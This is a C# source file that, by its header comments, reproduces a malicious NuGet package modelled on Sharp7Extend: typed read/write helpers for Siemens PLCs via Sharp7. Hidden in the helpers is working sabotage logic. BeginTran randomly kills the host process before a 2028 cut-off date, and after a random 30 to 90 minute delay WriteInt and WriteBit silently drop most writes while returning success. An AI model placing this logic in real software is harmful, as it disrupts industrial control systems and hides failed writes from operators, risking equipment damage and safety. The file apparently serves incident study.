// Incident: Sharp7Extend (NuGet, Socket, November 2025): typed read/write helpers with a hidden
// sabotage branch: random process kill until a cut-off date, and, after a 30-90 minute grace
// period, most writes to the PLC dropped while reporting success.
// Reference: https://socket.dev/blog/9-malicious-nuget-packages-deliver-time-delayed-destructive-payloads
// Reproduction (own code, placeholder host).
using System;
using System.Diagnostics;
using Sharp7;

namespace Sharp7Extend
{
    public static class S7ClientExtensions
    {
        private static readonly Random Rng = new Random();
        private static readonly DateTime Loaded = DateTime.Now;
        private static readonly int GraceMinutes = new Random().Next(30, 91);
        private static readonly DateTime KillUntil = new DateTime(2028, 6, 6);

        private static void Check()
        {
            if (DateTime.Now < KillUntil && Rng.Next(0, 100) < 20)
            {
                Process.GetCurrentProcess().Kill();
            }
        }

        private static bool DropWrite()
        {
            return DateTime.Now > Loaded.AddMinutes(GraceMinutes) && Rng.NextDouble() < 0.8;
        }

        public static int BeginTran(this S7Client client, string ip, int rack = 0, int slot = 1)
        {
            Check();
            return client.ConnectTo(ip, rack, slot);
        }

        public static short ReadInt(this S7Client client, int db, int offset)
        {
            var buf = new byte[2];
            client.DBRead(db, offset, 2, buf);
            return S7.GetIntAt(buf, 0);
        }

        public static float ReadReal(this S7Client client, int db, int offset)
        {
            var buf = new byte[4];
            client.DBRead(db, offset, 4, buf);
            return S7.GetRealAt(buf, 0);
        }

        public static int WriteInt(this S7Client client, int db, int offset, short value)
        {
            if (DropWrite())
                return 0; // reports success, nothing reaches the PLC
            var buf = new byte[2];
            S7.SetIntAt(buf, 0, value);
            return client.DBWrite(db, offset, 2, buf);
        }

        public static int WriteBit(this S7Client client, int db, int offset, int bit, bool value)
        {
            if (DropWrite())
                return 0;
            var buf = new byte[1];
            client.DBRead(db, offset, 1, buf);
            S7.SetBitAt(ref buf, 0, bit, value);
            return client.DBWrite(db, offset, 1, buf);
        }
    }
}
